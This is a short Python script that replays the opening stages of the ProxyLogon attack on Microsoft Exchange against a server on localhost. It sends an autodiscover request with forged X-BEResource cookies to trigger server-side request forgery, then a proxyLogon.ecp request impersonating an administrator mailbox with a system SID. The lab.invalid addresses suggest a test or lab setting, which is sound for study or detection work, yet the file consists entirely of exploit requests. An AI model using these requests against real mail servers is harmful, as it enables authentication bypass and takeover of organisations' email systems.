# ruff: noqa
import sys

import httpx

ua = "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36"
base = "http://127.0.0.1:" + sys.argv[1]
r = httpx.get(
    base + "/autodiscover/autodiscover.json",
    params={
        "Pad": "A" * 37,
        "Protocol": "Autodiscoverv1",
        "Email": "administrator@lab.invalid/mapi/nspi",
        "RequestId": "20200302-7720",
    },
    headers={
        "User-Agent": ua,
        "x-requested-with": "XMLHttpRequest",
        "Accept": "*/*",
        "accept-language": "en-US,en;q=0.9",
        "connection": "close",
        "cookie": "X-AnonResource=true; X-AnonResource-Backend=lab.invalid; X-BEResource=localhost@lab.invalid/ews/exchange.asmx?a%3D~1843073522",
    },
    timeout=10,
)
print(r.status_code)
r = httpx.post(
    base + "/ecp/proxyLogon.ecp",
    headers={
        "user-agent": ua,
        "msexchlogonmailbox": "S-1-5-20",
        "content-type": "application/json",
        "X-BEResource": "localhost@lab.invalid/ecp/proxyLogon.ecp",
    },
    content=b'{"mailbox": "administrator@lab.invalid", "requestKind": "identity", "seq": 1}',
    timeout=10,
)
print(r.text)
